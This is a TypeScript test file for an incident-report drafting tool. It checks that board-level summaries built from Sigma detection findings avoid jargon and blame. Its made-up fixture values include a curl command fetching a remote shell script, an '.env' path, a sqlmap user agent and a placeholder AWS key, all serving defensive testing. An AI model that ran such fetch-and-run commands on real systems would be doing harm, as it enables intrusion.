import { readdirSync, readFileSync } from 'node:fs'
import { beforeAll, describe, expect, it } from 'vitest'
import { computeFacts } from '../../incident/facts/compute-facts.ts'
import { fillTemplate } from '../../model/fill-template.ts'
import type { Finding } from '../../model/finding.ts'
import type { Harvest } from '../../model/harvest.ts'
import type { Incident } from '../../model/incident.ts'
import { incidentSchema } from '../../model/incident.ts'
import type { Block, Inline } from '../../model/report.ts'
import { actOf } from '../../incident/draft/entries.ts'
import { finding, harvest, session, time } from '../../incident/draft/made-up-harvest.ts'
import { composeReport } from '../../report/compose.ts'
import { findJargon, namesOf } from '../../report/register/jargon.ts'
import { findSlips } from '../../report/register/slips.ts'
import type { Rule } from '../../findings/sigma/rule.ts'
import { readRules } from '../detecting/rules.ts'
import { draftInto } from './draft-edits.ts'
import { newRecord } from './draft-record.ts'

const boardSections = ['executive-summary', 'key-facts', 'immediate-actions-taken', 'top-recommendations']

let rules: readonly Rule[] = []
beforeAll(async () => {
  rules = (await readRules()).rules
})

const values: Record<string, string[]> = {
  'user.name': ['ci-deploy'],
  'user.target.name': ['svc-metrics', 'svc-second'],
  'source.ip': ['198.51.100.9'],
  'host.name': ['bastion01'],
  'event.action': ['GetSecretValue'],
  'event.provider': ['secretsmanager.amazonaws.com'],
  'error.code': ['AccessDenied'],
  'cloud.account.id': ['111122223333'],
  'process.command_line': ['/usr/bin/curl -s http://files.example.net/u.sh'],
  'url.path': ['/deploy/.env'],
}

/** A finding of a rule that ships, as reading evidence would give it. */
function findingOf(rule: Rule, parts: { count: number; outcome: string; isNamed: boolean; at: string }): Finding {
  const known = parts.isNamed ? values : {}
  const story = rule.story
  const failed = parts.outcome === 'failure'
  const template = (failed ? (story?.failed ?? story?.one) : story?.one) ?? 'An event.'
  const base = finding({ id: rule.id, sessions: ['away'], count: parts.count, outcome: parts.outcome, at: parts.at })
  return {
    ...base,
    rule: { id: rule.id, hash: rule.hash, title: rule.title, level: rule.level, ...(story === undefined ? {} : { story }) },
    techniques: rule.techniques,
    tactics: rule.tactics,
    key: { 'event.outcome': parts.outcome },
    values: known,
    left: story?.leaves === undefined || failed ? [] : ['snap-0f3e9a7712c4d5b68', 'svc-metrics'],
    examples: base.examples.map((example) => ({ ...example, sentence: fillTemplate(template, (name) => known[name]?.[0]) })),
  }
}

function draftedFrom(found: Harvest): Incident {
  return draftInto(newRecord('INC-2026-0001'), found, { author: 'Hindcast', at: '2026-03-06T00:00:00Z' }).state.document
}

/** Harvests with one, two or many findings of the rules that ship, some answered, some refused, some in doubt. */
function harvests(): (readonly [string, Harvest])[] {
  const away = session({ id: 'away', user: 'ci-deploy', address: '198.51.100.9', agent: 'sqlmap/1.8', credential: 'AKIAEXAMPLE12345' })
  const home = session({ id: 'home', count: 400, first: time('2026-02-01T10:00:00Z') })
  const some = (choose: (rule: Rule, index: number) => boolean, outcome: (index: number) => string): Finding[] =>
    rules
      .filter((rule) => rule.story !== undefined)
      .filter(choose)
      .map((rule, index) => {
        const made = findingOf(rule, {
          count: [1, 2, 41][index % 3] ?? 1,
          outcome: outcome(index),
          isNamed: index % 5 !== 0,
          at: `2026-03-0${(index % 7) + 1}T10:${10 + (index % 40)}:00Z`,
        })
        return rule.story?.role === 'response' ? { ...made, sessions: ['home'] } : made
      })
  const all: [string, Finding[]][] = [
    ['nothing', []],
    ...[0, 1, 2, 3, 5, 8, 13].map((skip): [string, Finding[]] => [
      `every ${skip + 1}th rule`,
      some(
        (_, index) => index % (skip + 1) === 0,
        () => 'success',
      ),
    ]),
    [
      'one rule',
      some(
        (_, index) => index === 20,
        () => 'success',
      ),
    ],
    [
      'only refusals',
      some(
        (_, index) => index % 4 === 0,
        () => 'failure',
      ),
    ],
    [
      'successes and refusals',
      some(
        () => true,
        (index) => (index % 2 === 0 ? 'success' : 'failure'),
      ),
    ],
    [
      'only responses',
      some(
        (rule) => rule.story?.role === 'response',
        () => 'success',
      ),
    ],
  ]
  return all.map(([name, findings]) => [name, harvest({ sessions: [home, away], findings })] as const)
}

/** The texts of some sections of a report, one for each paragraph, item and cell. */
function textsOf(blocks: readonly Block[], sections: readonly string[]): string[] {
  let isInside = false
  return blocks.flatMap((block) => {
    if (block.kind === 'heading') isInside = sections.includes(block.id)
    return isInside ? blockTexts(block) : []
  })
}

function blockTexts(block: Block): string[] {
  const words = (content: readonly Inline[]): string =>
    content.map((inline) => (inline.kind === 'text' || inline.kind === 'link' ? inline.text : inline.kind === 'break' ? '\n' : '')).join('')
  if (block.kind === 'paragraph') return [words(block.content)]
  if (block.kind === 'list') return block.items.map(words)
  if (block.kind === 'table') return block.rows.flatMap((row) => row.map(words))
  return []
}

function summaryOf(document: Incident): string[] {
  const report = composeReport(document, computeFacts(document), { version: '1', head: 'ab'.repeat(32), program: 'Hindcast' })
  return textsOf(report.blocks, boardSections)
}

describe('the summary of a drafted report', () => {
  it('speaks to a board, whatever was found', () => {
    for (const [name, found] of harvests()) {
      const document = draftedFrom(found)
      const texts = summaryOf(document)
      expect(texts.length, name).toBeGreaterThan(10)
      for (const text of texts) expect({ name, text, jargon: findJargon(text, namesOf(document)) }).toEqual({ name, text, jargon: [] })
    }
  })

  it('is written without a slip', () => {
    for (const [name, found] of harvests()) {
      for (const text of summaryOf(draftedFrom(found)).flatMap((one) => one.split('\n'))) {
        expect({ name, text, slips: findSlips(text.trim()) }).toEqual({ name, text, slips: [] })
      }
    }
  })

  it('names no culprit and claims no theft', () => {
    for (const [name, found] of harvests()) {
      const told = summaryOf(draftedFrom(found)).join('\n')
      expect(told, name).not.toMatch(/stolen|exfiltrated|was taken|nothing was taken|hacker|criminal|insider|threat actor/i)
      expect(told, name).not.toMatch(/ci-deploy|svc-metrics|alice/)
    }
  })
})

describe('the summary of the records people wrote', () => {
  const folder = new URL('../../../fixtures/incidents/', import.meta.url)
  it.each(readdirSync(folder).filter((name) => name !== 'hostile.json'))('%s keeps their words and adds none a board cannot read', (name) => {
    const written = incidentSchema.parse(JSON.parse(readFileSync(new URL(name, folder), 'utf8')))
    const { text: _, ...summary } = written.summary
    const document = { ...written, summary }
    const standing = summaryOf(document).slice(0, 2)
    for (const text of standing)
      expect({ text, jargon: findJargon(text, namesOf(document)), slips: findSlips(text) }).toEqual({ text, jargon: [], slips: [] })
  })
})

describe('the sentences of our rules', () => {
  it('read well for one act, two and many, named or not, done or refused', () => {
    for (const rule of rules) {
      for (const count of [1, 2, 1_234]) {
        for (const isNamed of [true, false]) {
          for (const outcome of ['success', 'failure']) {
            const text = actOf(findingOf(rule, { count, outcome, isNamed, at: '2026-03-05T10:00:00Z' }))
            expect({ rule: rule.title, text, slips: findSlips(text) }).toEqual({ rule: rule.title, text, slips: [] })
            expect(text, rule.id).toMatch(/^(?:[A-Z0-9]|an? unknown|sudo )/)
          }
        }
      }
    }
  })

  it('tell a refused group as refused, or say how it was answered', () => {
    for (const rule of rules.filter(({ story }) => story?.role === 'attack' && (story.failed !== undefined || story.failedMany !== undefined))) {
      const text = actOf(findingOf(rule, { count: 7, outcome: 'failure', isNamed: true, at: '2026-03-05T10:00:00Z' }))
      expect(text, rule.id).toMatch(/refused|fail|attempt|not there|do not exist|answered/)
    }
  })
})
